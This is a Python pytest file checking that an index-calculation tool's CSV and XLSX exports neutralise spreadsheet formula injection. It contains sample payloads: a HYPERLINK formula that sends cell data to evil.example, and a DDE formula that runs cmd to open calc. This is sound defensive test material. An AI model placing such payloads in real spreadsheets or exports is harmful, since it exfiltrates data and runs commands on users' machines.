"""The export helper (no text cell becomes a formula) and the CLI's CSV, read back as a spreadsheet reader would."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from importlib import resources
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from indeks.cli.main import cli

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
DDE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        DDE,
        "+1+1",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1+1",
        "\uff1d1+1",  # full-width equals sign
        "- butir pertama",
        "+62 812 3456",
    ],
)
def test_formula_like_text_gets_a_leading_apostrophe(text: str) -> None:
    from indeks.core.exports import is_risky, safe_text

    assert is_risky(text)
    assert safe_text(text) == "'" + text


@pytest.mark.parametrize("text", ["", "Baik", "12/2024", "Perwal 5 = Perpres", "a-b", "'=1", "-1", "-3,50", "+2.5"])
def test_ordinary_text_and_plain_numbers_are_left_as_they_are(text: str) -> None:
    from indeks.core.exports import is_risky, safe_text

    assert not is_risky(text)
    assert safe_text(text) == text


def test_numbers_dates_and_empty_cells_are_not_text() -> None:
    from indeks.core.exports import safe_cell

    for value in (-1, -2.5, Decimal("-3.50"), 0, None, date(2025, 1, 2)):
        assert safe_cell(value) is value


def test_control_characters_that_break_readers_are_dropped() -> None:
    from indeks.core.exports import safe_text

    assert safe_text("a\x00b\x01c\x7f") == "abc"
    assert safe_text("\x00=1") == "'=1"
    assert safe_text("baris\ndua\ttab") == "baris\ndua\ttab"


def test_csv_writer_quotes_text_and_writes_numbers_bare() -> None:
    from indeks.core.exports import CsvWriter

    out = io.StringIO()
    writer = CsvWriter(out, lineterminator="\n")
    writer.writerow([DDE, -1, Decimal("-2.50"), None, "a;=1+1", "-7"])
    assert out.getvalue() == '"\'=cmd|\' /C calc\'!A0",-1,-2.50,"","a;=1+1","-7"\n'
    assert next(csv.reader(io.StringIO(out.getvalue())))[0] == "'" + DDE


def test_xlsx_rows_hold_no_formula_and_keep_numbers() -> None:
    from indeks.core.exports import append_row

    workbook = Workbook()
    append_row(workbook.active, [HYPERLINK, -1.5, Decimal("2.50"), None, "a\x01b", "Baik"])
    append_row(workbook.active, [])
    append_row(workbook.active, ["=1+1"])
    out = io.BytesIO()
    workbook.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert [cell.value for cell in cells] == ["'" + HYPERLINK, -1.5, 2.5, "ab", "Baik", "'=1+1"]
    assert sheet.cell(3, 1).value == "'=1+1"


def test_cli_csv_makes_names_from_a_framework_file_inert(tmp_path: Path) -> None:
    shipped = resources.files("indeks.frameworks").joinpath("pemdi-2026.yaml").read_text(encoding="utf-8")
    assert "    name: Tata Kelola dan Manajemen\n" in shipped
    hostile = shipped.replace(
        "    name: Tata Kelola dan Manajemen\n", f"    name: '{DDE.replace(chr(39), chr(39) * 2)}'\n"
    )
    framework = tmp_path / "pemdi-2026.yaml"
    framework.write_text(hostile, encoding="utf-8")
    levels = tmp_path / "levels.csv"
    levels.write_text("indicator,level\n" + "".join(f"{n},3\n" for n in range(1, 21)), encoding="utf-8")
    result = CliRunner().invoke(cli, ["calc", str(levels), "--framework", str(framework), "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(result.stdout)))
    aspect = next(row for row in rows if row[:2] == ["aspect", "1"])
    assert aspect[2] == "'" + DDE
    assert rows[1][3:5] == ["3.00", "3.00"]  # numbers stay numbers
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
